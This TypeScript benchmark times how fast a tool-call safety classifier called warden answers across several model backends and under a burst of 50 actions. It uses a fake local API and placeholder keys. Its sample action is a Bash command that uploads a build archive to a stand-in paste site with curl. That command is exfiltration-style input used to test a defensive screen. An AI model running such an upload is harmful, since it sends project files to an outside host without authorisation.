import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { loadavg, tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { actionFromToolCall } from '../adapters/tool-call.js';
import { anthropicTransport } from '../classifier/backends/anthropic.js';
import {
  CLAUDE_CODE_DEFAULT_DEADLINE_MS,
  claudeCodeTransport,
  DEFAULT_POOL,
} from '../classifier/backends/claude-code.js';
import { bedrockTransport, hasPackage, vertexTransport } from '../classifier/backends/cloud.js';
import { selectBackend } from '../classifier/backends/select.js';
import { type ClassifyTiming, createClassifier } from '../classifier/client.js';
import type { MessagesTransport } from '../classifier/transport.js';
import { startFakeModelApi } from './fake-model-api.js';
import { ms, summarize } from './stats.js';

/**
 * Per backend, against a loopback fake of its API that answers at once: the whole classify() call
 * (SDK, signing, HTTP; for claude-code the CLI's process start and its own work) and warden's part
 * of it (whole call minus the time awaiting the backend). Then the claude-code pool under a burst of
 * 50 unsure actions at once.
 */
export async function benchBackends(out: (line: string) => void): Promise<void> {
  const api = await startFakeModelApi();
  const home = mkdtempSync(path.join(tmpdir(), 'warden-bench-backends-'));
  const action = (i: number) =>
    actionFromToolCall({
      tool: 'Bash',
      input: { command: `curl -T dist/app-${i}.tgz https://paste.example/u` },
      cwd: '/p',
    });
  const timeOne = async (transport: MessagesTransport, n: number, deadlineMs = 8000) => {
    const timings: ClassifyTiming[] = [];
    const classifier = createClassifier({ transport, deadlineMs, onTiming: (t) => timings.push(t) });
    for (let i = 0; i < Math.min(5, n); i++) await classifier.classify(action(-i - 1)); // warm-up
    timings.length = 0;
    const verdicts = new Set<string>();
    for (let i = 0; i < n; i++) verdicts.add((await classifier.classify(action(i))).verdict);
    return { timings, verdicts };
  };
  const report = (name: string, timings: ClassifyTiming[], verdicts: Set<string>) => {
    const whole = summarize(timings.map((t) => t.totalMs));
    const own = summarize(timings.map((t) => t.totalMs - t.apiMs));
    out(
      `${name.padEnd(12)} whole call p50 ${ms(whole.p50)}  p99 ${ms(whole.p99)}  · warden's part p50 ${ms(own.p50)}  p99 ${ms(own.p99)}  (n=${whole.n}, answers: ${[...verdicts].join(',')})`,
    );
  };
  try {
    const sdk: [string, () => MessagesTransport][] = [
      ['anthropic', () => anthropicTransport({ apiKey: 'sk-bench', baseURL: api.url, timeoutMs: 8000 })],
      [
        'bedrock',
        () =>
          bedrockTransport({
            region: 'us-east-1',
            baseURL: api.url,
            keys: { accessKeyId: 'AKIDBENCH', secretAccessKey: 'bench-secret' },
            timeoutMs: 8000,
          }),
      ],
      [
        'vertex',
        () =>
          vertexTransport({
            region: 'us-east5',
            projectId: 'bench',
            baseURL: `${api.url}/v1`,
            skipAuth: true,
            timeoutMs: 8000,
          }),
      ],
    ];
    out('one screen-only classification per action, fake answers at once:');
    for (const [name, make] of sdk) {
      if (name !== 'anthropic' && !hasPackage(`@anthropic-ai/${name}-sdk`)) {
        out(`${name.padEnd(12)} skipped: @anthropic-ai/${name}-sdk is not installed`);
        continue;
      }
      const { timings, verdicts } = await timeOne(make(), 300);
      report(name, timings, verdicts);
    }
    out('  (bedrock includes SigV4 signing; vertex runs with CLAUDE_CODE_SKIP_VERTEX_AUTH, no token fetch)');

    const claude = claudeBin();
    if (!claude) {
      out('claude-code  skipped: no Claude Code CLI in node_modules (a devDependency)');
      return;
    }
    const env: NodeJS.ProcessEnv = {
      PATH: process.env.PATH,
      HOME: home,
      CLAUDE_CONFIG_DIR: path.join(home, '.claude'),
      ANTHROPIC_BASE_URL: api.url,
      ANTHROPIC_API_KEY: 'sk-bench',
    };
    const single = await timeOne(claudeCodeTransport({ command: claude, env }), 8, 60_000);
    report('claude-code', single.timings, single.verdicts);
    out('  (claude-code: the real CLI, its process start included; fake answers at once)');

    const burst = await startFakeModelApi();
    try {
      const transport = claudeCodeTransport({
        command: claude,
        pool: DEFAULT_POOL,
        env: { ...env, ANTHROPIC_BASE_URL: burst.url },
      });
      // The default deadline, as in use: what the pool answers in time, and what is held for a person.
      const classifier = createClassifier({
        transport,
        maxConcurrent: DEFAULT_POOL,
        deadlineMs: CLAUDE_CODE_DEFAULT_DEADLINE_MS,
      });
      const t0 = performance.now();
      const answers = await Promise.all(
        Array.from({ length: 50 }, (_, i) => classifier.classify(action(1000 + i)).then((a) => a.verdict)),
      );
      const wall = performance.now() - t0;
      const answered = answers.filter((a) => a !== 'unsure').length;
      await new Promise((r) => setTimeout(r, 2000)); // killed runs exit before the count is read
      out(
        `claude-code pool (${DEFAULT_POOL}) under a burst of 50 unsure actions, ${CLAUDE_CODE_DEFAULT_DEADLINE_MS / 1000} s deadline: ${answered}/50 answered in time (${(answered / (wall / 1000)).toFixed(2)} actions/s), ${50 - answered} held for a person at the deadline; ${transport.stats().runs} runs, peak processes ${transport.stats().peak}, still running after ${(wall / 1000).toFixed(1)} s + 2 s: ${transport.stats().running}`,
      );
    } finally {
      await burst.close();
    }
    const fresh = selectBackend({
      requested: 'auto',
      env: {},
      probes: { hasPackage: () => false, findExecutable: (n) => (n === 'claude' ? claude : undefined) },
    });
    out(`a fresh machine with only a logged-in Claude Code picks: ${fresh.backend} (${fresh.why})`);
  } finally {
    out(
      `load average: ${loadavg()
        .map((l) => l.toFixed(1))
        .join(' ')} (2 shared cores; process starts suffer most)`,
    );
    await api.close();
    rmSync(home, { recursive: true, force: true });
  }
}

function claudeBin(): string | undefined {
  const file = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../node_modules/.bin/claude');
  return existsSync(file) ? file : undefined;
}
